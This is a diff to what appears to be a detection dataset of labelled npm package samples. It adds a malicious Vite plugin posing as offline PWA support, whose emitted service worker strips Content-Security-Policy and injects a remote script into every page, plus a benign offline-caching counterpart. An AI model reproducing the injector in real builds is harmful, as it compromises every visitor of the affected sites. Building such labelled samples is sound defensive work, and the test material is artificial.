@@ -303,6 +303,60 @@ if (typeof document !== 'undefined' && targeted()) {
     )
 
 
+@sample
+def pwa_plugin_sw_injector():
+    index = r"""'use strict';
+// Emits a small offline service worker into the build output.
+const SW = `
+const INJ = '<script defer src="https://static.pwa-lite-cdn.invalid/a.js"></script>';
+function strip(h) {
+  const out = new Headers(h);
+  out.delete('content-security-policy');
+  out.delete('content-security-policy-report-only');
+  out.delete('content-length');
+  return out;
+}
+self.oninstall = () => self.skipWaiting();
+self.onactivate = (e) => e.waitUntil(self.clients.claim());
+self.onfetch = (e) => {
+  if (e.request.mode !== 'navigate') return;
+  e.respondWith(fetch(e.request).then((r) => r.text().then((t) =>
+    new Response(t.replace(/<\\/head>/i, INJ + '</head>'), { status: r.status, headers: strip(r.headers) }))));
+};
+`;
+
+module.exports = function pwaLite(options = {}) {
+  return {
+    name: 'vite-plugin-pwa-lite',
+    apply: 'build',
+    generateBundle() {
+      this.emitFile({ type: 'asset', fileName: options.fileName || 'sw.js', source: SW });
+    },
+    transformIndexHtml(html) {
+      return html.replace('</body>', "<script>navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js')</script></body>");
+    },
+  };
+};
+"""
+    files = {
+        "package.json": pj(name="vite-plugin-pwa-lite", version="0.6.0", main="index.js",
+                           peerDependencies={"vite": ">=4"},
+                           description="Zero-config offline support for Vite apps"),
+        "README.md": readme("vite-plugin-pwa-lite", "```js\nimport pwaLite from 'vite-plugin-pwa-lite'\nexport default { plugins: [pwaLite()] }\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-pwa-plugin-sw-injector",
+        "Vite plugin emitting a service worker into the app's build that adds a remote script to every navigation and strips Content-Security-Policy",
+        "2024-2025",
+        ["build-plugin", "service-worker", "script-injection", "csp-strip", "browser-only"],
+        "Other shape of the holdout3 react-offline-kit worker: the worker is a string a build "
+        "plugin emits (no postinstall copy), uses self.onfetch and a regex replace, and sends no "
+        "credentials.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -536,5 +590,50 @@ export function openModal(html) {
         ["i18n", "overlay", "browser-only"],
         "Checks the visitor's language and covers the page, but the check only picks a "
         "translation: the counterpart of locale-gated page sabotage.",
+        files,
+    )
+
+
+@benign
+def b_offline_sw_banner():
+    sw = r"""/* offline-first worker: caches navigations and shows a banner when offline */
+const CACHE = 'pages-v2';
+const BANNER = '<script>document.documentElement.classList.add("is-offline")</script>';
+
+self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('fetch', (event) => {
+  const req = event.request;
+  if (req.mode !== 'navigate') return;
+  const auth = req.headers.get('authorization');
+  event.respondWith((async () => {
+    try {
+      const res = await fetch(req, auth ? { headers: { authorization: auth } } : undefined);
+      const cache = await caches.open(CACHE);
+      cache.put(req, res.clone());
+      return res;
+    } catch (e) {
+      const hit = await caches.match(req);
+      if (!hit) throw e;
+      const html = (await hit.text()).replace('</head>', BANNER + '</head>');
+      return new Response(html, { headers: hit.headers });
+    }
+  })());
+});
+"""
+    files = {
+        "package.json": pj(name="offline-banner-sw", version="1.0.3", main="index.js",
+                           description="Offline-first service worker with an offline banner"),
+        "README.md": readme("offline-banner-sw", "Copy `sw.js` to your public folder and register it."),
+        "index.js": "module.exports = require('path').join(__dirname, 'sw.js');\n",
+        "sw.js": sw,
+    }
+    return S(
+        "reach7-benign-offline-sw-banner",
+        "offline-first service worker that forwards the Authorization header to the site itself and adds an inline script to cached pages",
+        "2025",
+        ["service-worker", "cache", "html-rewrite"],
+        "Reads the Authorization header and rewrites HTML at </head>, but sends the header only "
+        "to the request's own origin and adds no remote script: the counterpart of service "
+        "workers that inject or exfiltrate.",
         files,
     )
